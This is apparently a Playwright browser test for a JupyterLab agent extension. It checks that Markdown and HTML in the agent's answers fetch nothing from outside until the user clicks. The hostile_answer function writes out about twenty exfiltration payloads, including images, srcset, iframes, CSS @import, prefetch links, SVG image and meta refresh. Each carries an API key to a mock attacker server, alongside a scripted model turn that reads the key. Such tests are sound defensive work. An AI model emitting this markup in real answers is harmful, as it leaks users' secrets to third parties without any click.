"""Zero-click exfiltration through rendering, as a user would meet it, in JupyterLab and chromium.

With default settings the built-in agent reads a variable holding an API key (a reading tool:
no approval card) and answers with Markdown and HTML that would make the browser fetch URLs
carrying the key: a markdown image, a reference image, srcset, <picture>, <video poster>,
<iframe>, style url(), <style>@import, <link rel=prefetch>, an SVG <image> and more, all
pointing at a loopback "attacker" server. A media event with a remote uri goes through the
widget too. No request may reach that server, live nor after the notebook is reopened from
its saved state, until the user clicks a placeholder; the click loads that one image.
"""

from __future__ import annotations

import base64
import json
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import expect
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route

from tests.browser.conftest import Jupyter, click_save, shot
from tests.browser.harness import write_notebook
from tests.browser.test_widget_e2e import RUN, run_cell, wait_idle
from tests.servers.scripted_llm import ScriptedModel, ToolCallSpec, Turn
from tests.servers.serve import serve

KEY = "sk-test-5f0c1e2d3b4a"
MARKER = "Here is your chart."
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


class Bait:
    """The attacker's server: answers every path with a PNG and remembers what was asked."""

    def __init__(self) -> None:
        self.hits: list[str] = []

        async def any_path(request: Request) -> Response:
            self.hits.append(request.url.path)
            return Response(PNG, media_type="image/png", headers={"Access-Control-Allow-Origin": "*"})

        self.app = Starlette(routes=[Route("/{path:path}", any_path, methods=["GET", "POST", "HEAD"])])

    def automatic(self) -> list[str]:
        return [h for h in self.hits if h != "/canary"]


def hostile_answer(bait: str) -> str:
    return f"""{MARKER}

![chart]({bait}/md.png?k={KEY})

[r]: {bait}/ref.png?k={KEY}
![ref chart][r]

<img src="{bait}/raw.png?k={KEY}" srcset="{bait}/srcset.png 2x">

<picture><source srcset="{bait}/picture.webp"><img src="{bait}/picture.png"></picture>

<video poster="{bait}/poster.png" src="{bait}/video.mp4" autoplay></video>
<audio src="{bait}/audio.mp3" autoplay></audio>

<iframe src="{bait}/iframe"></iframe><object data="{bait}/object"></object><embed src="{bait}/embed">

<div style="background:url({bait}/style.png)">styled</div>

<style>@import url({bait}/import.css); .jp-Notebook {{ background: url({bait}/body.png) }}</style>

<link rel="prefetch" href="{bait}/prefetch"><link rel="stylesheet" href="{bait}/sheet.css">
<link rel="preload" as="image" href="{bait}/preload.png">

<svg><image href="{bait}/svg.png"/></svg>

<table background="{bait}/table.png"><tr><td>cell</td></tr></table>

<input type="image" src="{bait}/input.png"> <meta http-equiv="refresh" content="0;url={bait}/refresh">

[the docs]({bait}/link) <{bait}/autolink>
"""


@pytest.fixture
def bait() -> Iterator[tuple[Bait, str]]:
    b = Bait()
    with serve(b.app) as url:
        yield b, url


@pytest.fixture
def model(bait: tuple[Bait, str]) -> Iterator[str]:
    _, url = bait
    scripted = ScriptedModel(
        [
            Turn(
                thinking=f"The key is in API_KEY. ![t]({url}/thinking.png)",
                tool_calls=[ToolCallSpec("inspect_variable", json.dumps({"name": "API_KEY"}), "call_read_1")],
            ),
            Turn(text=hostile_answer(url)),
        ]
    )
    with serve(scripted.app) as model_url:
        yield model_url


def cells(model_url: str, bait: str, data_dir: Path) -> list[str]:
    media = [
        {"type": "user_message", "text": "show the plot"},
        {"type": "run_started", "run_id": "media"},
        {"type": "media", "mime_type": "image/png", "uri": f"{bait}/media.png?k={KEY}", "name": "plot.png"},
        {"type": "text_delta", "message_id": "m", "delta": "Media above."},
        {"type": "run_finished", "reason": "stop"},
    ]
    return [
        "import os\n"
        f"os.environ['OPENAI_BASE_URL'] = {model_url + '/v1'!r}\n"
        "os.environ['OPENAI_API_KEY'] = 'test-key'\n"
        "os.environ['NB_AGENT_MODEL'] = 'scripted-model'\n"
        "os.environ.pop('NB_AGENT_PROVIDER', None)\n"
        f"os.environ['NB_AGENT_DATA_DIR'] = {str(data_dir)!r}\n"
        f"API_KEY = {KEY!r}",
        "%load_ext nb_agent",
        "%agent What does my data look like?",
        # a media event with a remote uri (A2A file parts carry these), through the same widget
        f"from nb_agent.ui.widget import ChatWidget\nw = ChatWidget()\ndisplay(w)\nw.push({media!r})",
        "w.finish_run()",  # once the page shows it, so that page saves the transcript
    ]


def saved_transcripts(jupyter: Jupyter, name: str, count: int, seconds: float = 10) -> bool:
    """Whether the saved notebook's widget state holds ``count`` chat transcripts, polled for a
    while: the contents API can answer mid-write (not JSON, or no content) during a save."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            r = httpx.get(f"{jupyter.url}/api/contents/{name}", params={"token": jupyter.token}, timeout=10)
            meta = r.json()["content"]["metadata"]
        except (ValueError, KeyError, TypeError, httpx.HTTPError):
            meta = {}
        state = meta.get("widgets", {}).get("application/vnd.jupyter.widget-state+json", {}).get("state", {})
        if sum(1 for m in state.values() if m.get("state", {}).get("transcript")) >= count:
            return True
        time.sleep(0.2)  # polling the server's copy: a condition, not a fixed wait
    return False


def save(page: Any, jupyter: Jupyter, name: str, transcripts: int) -> None:
    """File > Save, until the server's copy holds the conversations."""
    for _ in range(3):
        click_save(page)
        if saved_transcripts(jupyter, name, transcripts):
            return
    pytest.fail("the conversations were not saved with the notebook")


def round_trip(page: Any, bait: str) -> None:
    """A request from the page to the bait server and back: fetches the rendering started
    before it have had their turn by the time it returns."""
    assert page.evaluate("u => fetch(u, {mode: 'no-cors', cache: 'no-store'}).then(() => true)", f"{bait}/canary")


def check_nothing_fetched(page: Any, bait: Bait, url: str, seen: list[str], where: str) -> None:
    round_trip(page, url)
    leaked_page = [u for u in seen if not u.endswith("/canary")]
    assert bait.automatic() == [], f"{where}: the bait server was contacted without a click: {bait.hits}"
    assert leaked_page == [], f"{where}: the page requested {leaked_page}"


def click_loads(page: Any, cell: Any, bait: Bait, path: str) -> None:
    button = cell.locator(".nb-agent-remote-image").first
    expect(button).to_contain_text("Image from 127.0.0.1:")
    expect(button).to_contain_text("click to load")
    button.click()
    img = cell.locator(".nb-agent-loaded-image").first
    expect(img).to_be_visible(timeout=RUN)
    page.wait_for_function("img => img.complete && img.naturalWidth === 1", arg=img.element_handle(), timeout=RUN)
    assert bait.automatic() == [path], bait.hits


@pytest.mark.browser
@pytest.mark.parametrize("jupyter", ["lab"], indirect=True)
def test_agent_output_fetches_nothing_until_clicked(
    browser: Any, jupyter: Jupyter, bait: tuple[Bait, str], model: str, tmp_path: Path
) -> None:
    trap, url = bait
    write_notebook(jupyter.root / "leak.ipynb", cells(model, url, tmp_path / "nb-agent-data"))
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    seen: list[str] = []
    page.on("request", lambda r: seen.append(r.url) if r.url.startswith(url) else None)
    page.goto(jupyter.open_url("leak.ipynb"))
    page.locator(".jp-Notebook .jp-Cell").first.wait_for(timeout=RUN)
    wait_idle(page, jupyter)
    for index in range(2):
        run_cell(page, jupyter, index)
        wait_idle(page, jupyter)

    # Live: the agent reads the key with no approval card and answers; nothing is fetched.
    cell = run_cell(page, jupyter, 2)
    text = cell.locator(".nb-agent-text").last
    expect(text).to_contain_text(MARKER, timeout=RUN)
    expect(cell.locator(".nb-agent-turn")).to_have_attribute("data-finished", "stop", timeout=RUN)
    expect(cell.locator(".nb-agent-tool .nb-agent-result")).to_contain_text(KEY[:10])
    expect(cell.locator(".nb-agent-approval")).to_have_count(0)
    media = run_cell(page, jupyter, 3)
    expect(media.locator(".nb-agent-text")).to_contain_text("Media above.", timeout=RUN)
    wait_idle(page, jupyter)
    run_cell(page, jupyter, 4)
    wait_idle(page, jupyter)
    check_nothing_fetched(page, trap, url, seen, "live")
    expect(cell.locator(".nb-agent-remote-image")).to_have_count(4)  # md, reference, raw, <picture>'s
    expect(media.locator(".nb-agent-media .nb-agent-remote-image")).to_contain_text("plot.png")
    link = text.locator("a", has_text="the docs")
    expect(link).to_have_attribute("data-nb-agent-href", f"{url}/link")  # followed on a click, not live
    expect(link).to_have_attribute("title", f"{url}/link")
    cell.scroll_into_view_if_needed()
    shot(page, "render-safety-1-live")

    # A click is the user's act: it loads that image, and only it.
    click_loads(page, cell, trap, "/md.png")
    shot(page, "render-safety-2-clicked")

    # Reopened from the saved notebook, with no kernel behind the widgets: still nothing.
    save(page, jupyter, "leak.ipynb", transcripts=2)
    params = {"token": jupyter.token}
    for session in httpx.get(f"{jupyter.url}/api/sessions", params=params, timeout=10).json():
        httpx.delete(f"{jupyter.url}/api/sessions/{session['id']}", params=params, timeout=10)
    context.close()
    trap.hits.clear()
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    seen.clear()
    page.on("request", lambda r: seen.append(r.url) if r.url.startswith(url) else None)
    page.goto(jupyter.open_url("leak.ipynb"))
    cell = page.locator(".jp-Notebook .jp-Cell").nth(2)
    media = page.locator(".jp-Notebook .jp-Cell").nth(3)
    expect(cell.locator(".nb-agent-text").last).to_contain_text(MARKER, timeout=RUN)
    expect(media.locator(".nb-agent-text")).to_contain_text("Media above.", timeout=RUN)
    check_nothing_fetched(page, trap, url, seen, "reopened")
    expect(cell.locator(".nb-agent-remote-image")).to_have_count(4)
    expect(media.locator(".nb-agent-media .nb-agent-remote-image")).to_contain_text("plot.png")
    shot(page, "render-safety-3-reopened")
    click_loads(page, media, trap, "/media.png")
    context.close()
